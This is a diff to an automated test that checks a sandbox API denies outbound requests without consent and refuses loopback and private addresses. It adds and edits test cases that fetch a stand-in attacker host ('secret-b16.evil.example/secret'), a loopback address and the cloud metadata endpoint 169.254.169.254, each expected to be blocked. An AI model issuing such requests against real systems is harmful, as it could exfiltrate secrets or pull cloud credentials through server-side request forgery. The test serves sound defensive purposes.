@@ -379,7 +379,8 @@ test("requests to the outside reach nobody without consent, and no private addre
     studio,
     `{
       ask: () => SandboxAPI.fetch("https://secret-x16.evil.example/secret").then((answer) => "ask " + answer.status, (error) => "ask " + error.code),
-      loopback: () => SandboxAPI.fetch("https://127.0.0.1:1/").then((answer) => "loopback " + answer.status, (error) => "loopback " + error.code),
+      special: () => SandboxAPI.fetch("https://secret-b16.evil.example/secret").then((answer) => "special " + answer.status, (error) => "special " + error.code),
+      loopback: () => SandboxAPI.fetch("https://127.0.0.2:1/").then((answer) => "loopback " + answer.status, (error) => "loopback " + error.code),
       metadata: () => SandboxAPI.fetch("http://169.254.169.254/latest/meta-data/").then((answer) => "metadata " + answer.status, (error) => "metadata " + error.code),
     }`,
   );
@@ -393,7 +394,7 @@ test("requests to the outside reach nobody without consent, and no private addre
   await expect(status).toHaveText("done: ask denied");
   const heard = receiver.since(from);
   rows.check("X16", "denied-host", heard.length === 0, heard.map(({ text }) => text).join("; "));
-  for (const name of ["ask", "loopback", "metadata"]) {
+  for (const name of ["special", "loopback", "metadata"]) {
     await app.press(name);
     const ended = async () => new RegExp(`^done: ${name} (?!denied)`).test((await status.textContent()) ?? "");
     await expect.poll(async () => (await dialog.isVisible()) || (await ended())).toBe(true);
@@ -402,7 +403,7 @@ test("requests to the outside reach nobody without consent, and no private addre
     await expect(status).toHaveText(new RegExp(`^done: ${name} (forbidden_address|invalid)$`));
     rows.check(
       "B16",
-      name === "ask" ? "name-of-a-special-address" : name,
+      name === "special" ? "name-of-a-special-address" : name,
       true,
       (await status.textContent()) ?? "",
     );
